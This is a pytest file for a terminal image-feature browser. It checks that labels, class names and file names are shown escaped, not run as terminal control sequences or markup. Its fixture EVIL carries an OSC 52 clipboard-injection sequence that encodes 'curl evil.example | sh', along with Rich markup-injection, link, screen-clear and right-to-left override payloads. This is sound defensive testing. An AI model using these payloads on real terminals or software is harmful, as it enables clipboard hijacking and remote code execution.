"""Labels, class names and file names reach the terminal as text: never as control sequences, never as markup."""

import json
import subprocess
import sys

import pytest
from textual.widgets import Static

from tests.helpers import answer, make_indexed_workspace, open_browser
from vitsae_tui.engine.activation_set import MANIFEST
from vitsae_tui.engine.feature_index import open_index_for
from vitsae_tui.tui.app import VitsaeApp

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh" to the clipboard
EVIL = f"{CLIPBOARD}[/]a[@click=app.quit]b[link=http://evil.example]x[/link]\x1b[2J\u202e"
ESCAPED = "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07[/]a[@click=app.quit]b"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An index whose feature 0 carries a hostile label and whose first class is named by a hostile folder."""
    ws, sae = make_indexed_workspace(tmp_path_factory.mktemp("hostile") / "ws")
    open_index_for(ws, sae).set_label(0, EVIL)
    set_dir = next(ws.kind_dir("activations").iterdir())
    manifest = json.loads((set_dir / MANIFEST).read_text())
    manifest["class_names"][0] = EVIL  # as collect names a class after its folder
    (set_dir / MANIFEST).write_text(json.dumps(manifest))
    return ws, sae


def cli(ws, *args):
    command = [sys.executable, "-m", "vitsae_tui", *args, "--workspace", str(ws.root)]
    return subprocess.run(command, capture_output=True, text=True, timeout=120)


def test_the_cli_shows_hostile_labels_and_class_names_escaped(hostile):
    ws, sae = hostile
    index = open_index_for(ws, sae)
    image = int(next(i for i in range(index.n_images) if index.image_labels()[i] == 0))
    for args in (("feature", "--sae", sae, "0"), ("inspect", "--sae", sae, "--image", str(image), "--token", "0")):
        result = cli(ws, *args)
        assert result.returncode == 0, result.stderr
        out = result.stdout + result.stderr
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out, args
        assert "Traceback" not in out and "MarkupError" not in out, args
    assert ESCAPED in cli(ws, "feature", "--sae", sae, "0").stdout.replace("\n", "")


async def test_the_app_shows_hostile_text_as_text_and_keeps_a_markup_looking_label(hostile):
    ws, sae = hostile
    app = VitsaeApp(ws.root)
    async with app.run_test(size=(120, 40)) as pilot:
        screen = await open_browser(pilot, app)
        await answer(pilot, "slash", "0")
        stats = str(screen.query_one("#feature-stats", Static).render())
        assert ESCAPED in stats.replace("\n", "") and "\x1b" not in stats
        screen.open_image(int(next(i for i in range(screen.index.n_images) if screen.index.image_labels()[i] == 0)), 0)
        await pilot.pause(0.1)
        title = str(screen.query_one("#image-title", Static).render())
        assert "\\x1b]52" in title and "\x1b" not in title
        await answer(pilot, "L", *"a[/]b")  # saved, then drawn again on every later visit: must never be markup
        assert screen.index.label(0) == "a[/]b"
        await pilot.press("escape", "escape", "b")  # to home and back: the label is read again
        await pilot.pause(0.3)
        await answer(pilot, "slash", "0")
        assert app.is_running and "feature 0 — a[/]b" in str(screen.query_one("#feature-stats", Static).render())
